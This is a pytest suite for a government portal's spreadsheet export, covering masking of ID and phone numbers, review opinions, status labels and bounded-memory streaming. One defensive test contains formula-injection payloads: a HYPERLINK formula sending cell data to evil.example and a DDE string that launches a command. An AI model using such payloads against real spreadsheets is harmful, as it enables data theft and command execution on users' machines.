"""app/exports.py: masked numbers, formula-safe cells, the opinions per level, and 10,000 rows in bounded memory."""
import gc
import time
import tracemalloc
from datetime import date, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select

from app import clock, exports, roles
from app.extensions import db
from app.models import Account, Application, ApplicationEvent, Campaign
from tests import factories

NOW = datetime(2026, 5, 1, 10, 0)
HEADERS = [
    "序号", "姓名", "性别", "出生日期", "身份证号", "手机号码", "工作单位", "职务", "住址", "单位类别", "一级单位",
    "二级单位", "状态", "提交时间", "二级单位意见", "一级单位意见", "个人先进事迹",
]


@pytest.fixture(autouse=True)
def frozen():
    clock.freeze(NOW)


def read_back(source):
    """(header, rows as dicts, every cell) of the first sheet, read as a spreadsheet program would."""
    workbook = load_workbook(source, read_only=True)
    try:
        cells = [list(row) for row in workbook.worksheets[0].iter_rows()]
        values = [[cell.value for cell in row] for row in cells]
        return values[0], [dict(zip(values[0], row)) for row in values[1:]], [c for row in cells for c in row]
    finally:
        workbook.close()


def test_what_a_citizen_typed_stays_text_never_a_formula(tmp_path):
    district, (street, _) = factories.district_with_streets()
    city = factories.account(roles.CITY_OFFICE)
    typed = {
        "name": "=1+1",
        "work_unit": '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
        "position": "+SUM(A1:A9)",
        "address": "@cmd|' /C calc'!A0",
        "deeds": "-2+3\n第二行\t制表\x0b控制字符 https://example.com 0123",
        "mobile": "=1+2",
        "id_number": "=A1*1",
    }
    factories.application(unit=street, **typed)
    out = tmp_path / "typed.xlsx"
    n = exports.write_applications(exports.entries(exports.export_query(city)), str(out), full_numbers=True)
    assert n == 1

    header, rows, cells = read_back(out)
    assert header == HEADERS
    assert all(cell.data_type != "f" for cell in cells)
    row = rows[0]
    assert row["姓名"] == "=1+1"
    assert row["工作单位"] == typed["work_unit"]
    assert row["职务"] == "+SUM(A1:A9)"
    assert row["住址"] == typed["address"]
    assert row["个人先进事迹"] == typed["deeds"].replace("\x0b", "")  # control characters dropped, tabs kept
    assert row["手机号码"] == "=1+2"
    assert row["身份证号"] == "=A1*1"
    assert row["一级单位"] == district.name and row["二级单位"] == street.name
    assert row["单位类别"] == "区"


def test_numbers_are_text_and_masked_unless_asked(tmp_path):
    _, (street, _) = factories.district_with_streets()
    city = factories.account(roles.CITY_OFFICE)
    factories.application(unit=street, id_number="110108198001010011", mobile="13911588771")
    stmt = exports.export_query(city)
    exports.write_applications(exports.entries(stmt), str(tmp_path / "masked.xlsx"), full_numbers=False)
    exports.write_applications(exports.entries(stmt), str(tmp_path / "full.xlsx"), full_numbers=True)
    (masked,) = read_back(tmp_path / "masked.xlsx")[1]
    (full,) = read_back(tmp_path / "full.xlsx")[1]
    assert (masked["身份证号"], masked["手机号码"]) == ("110108********0011", "139****8771")
    assert (full["身份证号"], full["手机号码"]) == ("110108198001010011", "13911588771")
    assert full["出生日期"] == datetime(1980, 1, 1) and full["提交时间"] == NOW  # real dates, sortable



def test_a_decision_left_past_its_window_is_exported_as_void(tmp_path):
    """状态 says 过期无效 as the screens do: a submitted application its street did not decide before 二级单位推荐
    closed; one whose street's window is still open is not void."""
    from app import schedule
    from app.models import Stage

    _, (street, _) = factories.district_with_streets()
    city = factories.account(roles.CITY_OFFICE)
    closed, still_open = factories.campaign(name="第八批"), factories.campaign(name="第九批")
    schedule.open_stage(closed, Stage.L1_REVIEW)  # 二级单位推荐 has ended
    schedule.open_stage(still_open, Stage.L2_REVIEW)
    factories.application(unit=street, campaign=closed, name="过期")
    factories.application(unit=street, campaign=still_open, name="在办")
    db.session.commit()
    exports.write_applications(exports.entries(exports.export_query(city)), str(tmp_path / "x.xlsx"),
                               full_numbers=False)
    status = {row["姓名"]: row["状态"] for row in read_back(tmp_path / "x.xlsx")[1]}
    assert status["过期"].endswith("（过期无效）") and not status["在办"].endswith("（过期无效）")

def test_each_level_shows_its_latest_opinion_with_who_and_when(tmp_path):
    district, (street, _) = factories.district_with_streets()
    city = factories.account(roles.CITY_OFFICE)
    clerk = factories.account(roles.L2_CLERK, unit=street, username="l2-zgc", first_name="张伟")
    application = factories.application(unit=street, status="reported")
    history = [
        ("return", street, "请补充事迹", "submitted", "returned"),
        ("l2_reject", street, "再议", "submitted", "l2_not_recommended"),
        ("l2_recommend", street, "学习成效显著，同意推荐", "l2_not_recommended", "l2_recommended"),
        ("l2_submit", street, None, "l2_recommended", "l2_forwarded"),
        ("l1_recommend", district, "同意上报", "l2_forwarded", "l1_recommended"),
        ("l1_report", district, None, "l1_recommended", "reported"),
    ]
    for minutes, (action, unit, opinion, source, target) in enumerate(history):
        # The street's clerk has an account; the district's is gone, and only its login name is left.
        actor = clerk if unit is street else None
        db.session.add(
            ApplicationEvent(application=application, at=NOW + timedelta(minutes=minutes), unit_id=unit.id,
                             actor=actor, actor_name=actor.username if actor else f"clerk-{unit.id}", action=action,
                             from_status=source, to_status=target, opinion=opinion)
        )
    db.session.commit()
    exports.write_applications(exports.entries(exports.export_query(city)), str(tmp_path / "o.xlsx"), full_numbers=True)
    (row,) = read_back(tmp_path / "o.xlsx")[1]
    # The person and their unit, never the login name of an account that still exists; Beijing time, one format.
    assert row["二级单位意见"] == "推荐：学习成效显著，同意推荐（中关村街道 · 张伟，2026-05-01 10:02:00）"
    assert row["一级单位意见"] == f"推荐：同意上报（海淀区 · clerk-{district.id}，2026-05-01 10:04:00）"
    assert row["状态"] == "一级单位已上报市学习办"

    sections = exports.level_sections(application)
    assert [(s.level, s.unit.name, s.opinion.opinion, s.submitted_at) for s in sections] == [
        (2, street.name, "学习成效显著，同意推荐", NOW + timedelta(minutes=3)),
        (1, district.name, "同意上报", NOW + timedelta(minutes=5)),
    ]
    assert [(s.opinion.who, s.submitted_by) for s in sections] == [
        ("中关村街道 · 张伟", "中关村街道 · 张伟"), (f"海淀区 · clerk-{district.id}", f"海淀区 · clerk-{district.id}"),
    ]


def test_stage_and_status_filters():
    assert exports.statuses_for() is None
    assert exports.statuses_for(["submitted", "reported"]) == {"submitted", "reported"}
    assert exports.statuses_for(stage="reported") == {"reported"}
    assert exports.statuses_for(["reported", "submitted"], stage="l1") == {"reported"}
    assert exports.statuses_for(stage="pending", level=2) == {"submitted"}
    assert exports.statuses_for(stage="pending", level=1) == {"l2_forwarded"}
    for bad in ({"statuses": ["nope"]}, {"stage": "l3"}):
        with pytest.raises(exports.BadFilter):
            exports.statuses_for(**bad)


N = 10_000
DEEDS = "坚持终身学习，带动社区居民组建读书会，累计组织活动三百余场。" * 30  # ~900 characters, as real ones run


def _ten_thousand_applications():
    """N submitted applications (half forwarded, with an opinion) inserted in bulk: a few seconds, not minutes."""
    campaign = factories.campaign(name="万人批次", open_stage=None)
    district, streets = factories.district_with_streets()
    db.session.execute(
        insert(Account),
        [
            {"username": f"bulk{i}", "first_name": f"申报人{i}", "last_name": "", "email": f"bulk{i}@accounts.invalid",
             "active": True}
            for i in range(N)
        ],
    )
    bulk = select(Account.username, Account.id).where(Account.username.like("bulk%"))
    account_ids = dict(db.session.execute(bulk).all())
    db.session.execute(
        insert(Application),
        [
            {
                "campaign_id": campaign.id,
                "applicant_id": account_ids[f"bulk{i}"],
                "status": "l2_forwarded" if i % 2 else "submitted",
                "name": f"张学习{i}",
                "gender": "female" if i % 3 else "male",
                "birth_date": date(1960, 1, 1) + timedelta(days=i),
                "id_number": f"1101081980{i:07d}X",
                "mobile": f"139{i:08d}",
                "work_unit": "北京市某研究院",
                "position": "工程师",
                "address": "北京市海淀区中关村大街 1 号",
                "is_permanent_resident": True,
                "unit_id": streets[i % 2].id,
                "deeds": DEEDS,
                "declaration_confirmed": True,
                "submitted_at": NOW - timedelta(days=10, minutes=i),
                "created_at": NOW - timedelta(days=11),
                "updated_at": NOW - timedelta(days=10),
            }
            for i in range(N)
        ],
    )
    forwarded = db.session.scalars(select(Application.id).where(Application.status == "l2_forwarded")).all()
    db.session.execute(
        insert(ApplicationEvent),
        [
            {"application_id": application_id, "at": NOW - timedelta(days=5), "actor_name": "l2-clerk",
             "unit_id": streets[1].id, "action": "l2_recommend", "from_status": "submitted",
             "to_status": "l2_recommended", "opinion": "学习成效显著，同意推荐"}
            for application_id in forwarded
        ],
    )
    db.session.commit()
    return campaign


def test_the_opinions_are_read_through_their_partial_index():
    """The opinions' query names the same actions as ix_application_event_opinions, written into its SQL (a prepared
    plan with the actions as parameters could not use the partial index)."""
    from sqlalchemy.dialects import postgresql

    from app.models.application import UNIT_OPINION_ACTIONS

    assert set(exports.OPINION_LEVEL) == set(UNIT_OPINION_ACTIONS)
    index = next(i for i in ApplicationEvent.__table__.indexes if i.name == "ix_application_event_opinions")
    assert [c.name for c in index.columns] == ["application_id", "id"]
    sql = str(select(ApplicationEvent.id).where(exports._UNIT_OPINIONS)
              .compile(dialect=postgresql.dialect(), compile_kwargs={"render_postcompile": True}))
    assert "action IN ('return', 'l2_recommend', 'l2_reject', 'l1_recommend', 'l1_reject')" in sql


def test_ten_thousand_rows_stream_in_a_few_megabytes(tmp_path):
    campaign_id = _ten_thousand_applications().id
    auditor_id = factories.account(roles.AUDITOR).id
    db.session.expunge_all()  # nothing of the setup left in the session: what the export holds is its own
    auditor, campaign = db.session.get(Account, auditor_id), db.session.get(Campaign, campaign_id)

    stmt = exports.export_query(auditor, campaign=campaign)
    gc.collect()
    started = time.perf_counter()
    tracemalloc.start()
    try:
        full_numbers = False
        out, rows, size = exports.spooled_workbook(exports.entries(stmt), full_numbers=full_numbers)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    elapsed = time.perf_counter() - started
    print(f"\nexport of {rows} rows: peak traced Python memory {peak / 2**20:.1f} MiB, file {size / 2**20:.1f} MiB, "
          f"{elapsed:.1f} s (under tracemalloc)")
    assert rows == N
    # Streaming measures about 14 MiB here (batches of 2,000); the same rows loaded all at once measure over 40 MiB.
    assert peak < 30 * 2**20

    with out:
        header, body, cells = read_back(out)
    assert header == HEADERS
    assert len(body) == N
    assert [row["序号"] for row in body] == list(range(1, N + 1))
    assert all(cell.data_type != "f" for cell in cells)
    by_name = {row["姓名"]: row for row in body}
    assert len(by_name) == N
    first, second = by_name["张学习0"], by_name["张学习1"]
    assert first["身份证号"] == "110108********000X" and first["手机号码"] == "139****0000"
    assert second["身份证号"] == "110108********001X" and second["手机号码"] == "139****0001"
    assert all(row["身份证号"].startswith("110108********") and "****" in row["手机号码"] for row in body)
    assert first["个人先进事迹"] == DEEDS and first["二级单位意见"] == ""
    assert second["二级单位意见"].startswith("推荐：学习成效显著，同意推荐（学院路街道 · l2-clerk，")
    assert second["状态"] == "二级单位已推荐，待一级单位评审"
    assert {row["二级单位"] for row in body} == {"中关村街道", "学院路街道"}


def test_every_cell_of_a_few_rows_is_written_as_before(tmp_path):
    """The sheet cell by cell, value, type and number format, for rows that exercise every column's branches: both
    opinions (a clerk with an account, one without), a void status, missing values, a control character, a category.
    Written against the export as it was before its speed-up (issue 11): the file must not change."""
    from app import schedule
    from app.models import Stage

    district, (street, other_street) = factories.district_with_streets()
    city = factories.account(roles.CITY_OFFICE)
    clerk = factories.account(roles.L2_CLERK, unit=street, username="l2-zgc", first_name="张伟")
    closed, still_open = factories.campaign(name="第八批"), factories.campaign(name="第九批")
    schedule.open_stage(closed, Stage.L1_REVIEW)  # 二级单位推荐 has ended: a submitted application there is void
    schedule.open_stage(still_open, Stage.L2_REVIEW)
    decided = factories.application(unit=street, campaign=still_open, status="reported", name="王芳", gender="female",
                                    birth_date=date(1975, 12, 31), id_number="11010819751231002X",
                                    mobile="13800138000", work_unit="海淀区图书馆", position="馆员",
                                    address="北京市海淀区学院路 5 号", deeds="组织读书会\n三十场",
                                    submitted_at=NOW - timedelta(days=3, seconds=1))
    factories.application(unit=street, campaign=closed, name="李<雷>&", gender=None, birth_date=None, mobile=None,
                          position=None, address="北京\x07市", id_number="1234", deeds=" 前后有空格 ",
                          submitted_at=NOW - timedelta(days=2))
    factories.application(unit=other_street, campaign=still_open, status="l2_forwarded", name="赵六",
                          submitted_at=NOW - timedelta(days=1), deeds="")
    for minutes, (action, unit, opinion, actor) in enumerate([
        ("l2_reject", street, "再议", clerk),
        ("l2_recommend", street, "同意推荐", clerk),
        ("l1_reject", district, "材料不全", None),
        ("l1_recommend", district, "同意上报 & 推荐", None),
    ]):
        db.session.add(ApplicationEvent(application=decided, at=NOW - timedelta(hours=5, minutes=-minutes),
                                        unit_id=unit.id, actor=actor, actor_name=actor.username if actor else "区办",
                                        action=action, from_status="submitted", to_status="reported", opinion=opinion))
    db.session.commit()
    out = tmp_path / "cells.xlsx"
    assert exports.write_applications(exports.entries(exports.export_query(city)), str(out), full_numbers=False) == 3

    workbook = load_workbook(out)  # not read-only: number formats and the sheet's settings too
    sheet = workbook.worksheets[0]
    assert sheet.title == "报名信息" and sheet.freeze_panes == "C2" and sheet.auto_filter.ref == "A1:Q4"
    assert [sheet.column_dimensions[c].width for c in "ABQ"] == [6.7109375, 10.7109375, 60.7109375]
    assert [cell.value for cell in sheet[1]] == HEADERS and all(cell.font.b for cell in sheet[1])
    cells = [[(cell.value, cell.data_type, cell.number_format) for cell in row] for row in sheet.iter_rows(min_row=2)]
    text, general = "s", "General"
    assert cells == [
        [(1, "n", general), ("王芳", text, general), ("女", text, general),
         (datetime(1975, 12, 31), "d", "yyyy-mm-dd"), ("110108********002X", text, general),
         ("138****8000", text, general), ("海淀区图书馆", text, general), ("馆员", text, general),
         ("北京市海淀区学院路 5 号", text, general), ("区", text, general), ("海淀区", text, general),
         ("中关村街道", text, general), ("一级单位已上报市学习办", text, general),
         (datetime(2026, 4, 28, 9, 59, 59), "d", "yyyy-mm-dd hh:mm:ss"),
         ("推荐：同意推荐（中关村街道 · 张伟，2026-05-01 05:01:00）", text, general),
         ("推荐：同意上报 & 推荐（海淀区 · 区办，2026-05-01 05:03:00）", text, general),
         ("组织读书会\n三十场", text, general)],
        [(2, "n", general), ("李<雷>&", text, general), ("", text, general), (None, "n", general),
         ("****", text, general), ("", text, general), ("北京某单位", text, general), ("", text, general),
         ("北京市", text, general), ("区", text, general), ("海淀区", text, general), ("中关村街道", text, general),
         ("已提交，待二级单位评审（过期无效）", text, general),
         (datetime(2026, 4, 29, 10, 0), "d", "yyyy-mm-dd hh:mm:ss"), ("", text, general), ("", text, general),
         (" 前后有空格 ", text, general)],
        [(3, "n", general), ("赵六", text, general), ("男", text, general), (datetime(1980, 1, 1), "d", "yyyy-mm-dd"),
         (cells[2][4][0], text, general), ("139****8771", text, general), ("北京某单位", text, general),
         ("职员", text, general), ("北京市海淀区中关村大街 1 号", text, general), ("区", text, general),
         ("海淀区", text, general), ("学院路街道", text, general), ("二级单位已推荐，待一级单位评审", text, general),
         (datetime(2026, 4, 30, 10, 0), "d", "yyyy-mm-dd hh:mm:ss"), ("", text, general), ("", text, general),
         ("", text, general)],
    ]
    assert cells[2][4][0].startswith("110") and "********" in cells[2][4][0]


@pytest.mark.parametrize("value, cell", [
    (None, ""), (12, "12"), ("王芳", "王芳"), ("第一段\n第二段\r\n\t缩进", "第一段\n第二段\r\n\t缩进"),
    ("全角\u3000空格", "全角\u3000空格"), ("全角\u3000空格\x07", "全角\u3000空格"), ("换行\n加\x1b控制", "换行\n加控制"),
    ("\x00\x08\x0b\x0c\x0e\x1f\x7f", ""),
])
def test_a_cell_drops_control_characters_but_keeps_breaks_tabs_and_wide_spaces(value, cell):
    assert exports._text(value) == cell


def test_a_citizens_save_does_not_wait_for_an_export_half_read(app):
    """An export job reads its rows as one query, a batch at a time, for as long as the workbook takes; meanwhile the
    portal writes (a citizen saves, the job records its progress). On SQLite that holds because the database is in
    write-ahead mode (app/__init__.py): with the old rollback journal the open read made every writer wait, here for
    good (no waiting allowed), there up to the 30 s busy timeout and then fail."""
    from sqlalchemy import text, update

    district, (street, _) = factories.district_with_streets()
    city = factories.account(roles.CITY_OFFICE)
    for n in range(5):
        factories.application(unit=street, name=f"申报人{n}")
    if db.engine.dialect.name == "sqlite":
        with db.engine.connect() as connection:
            assert connection.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"
    read = exports.entries(exports.export_query(city), batch_size=2)
    first = next(read)  # the read is open, 3 rows still to come
    with db.engine.connect() as writer:
        if writer.dialect.name == "sqlite":
            writer.exec_driver_sql("PRAGMA busy_timeout=0")
        writer.execute(update(Application).where(Application.id == first[0][0]).values(work_unit="海淀区图书馆"))
        writer.commit()
        if writer.dialect.name == "sqlite":
            writer.exec_driver_sql("PRAGMA busy_timeout=30000")
    assert len([first, *read]) == 5
    assert db.session.execute(text("SELECT work_unit FROM application WHERE id = :id"),
                              {"id": first[0][0]}).scalar_one() == "海淀区图书馆"
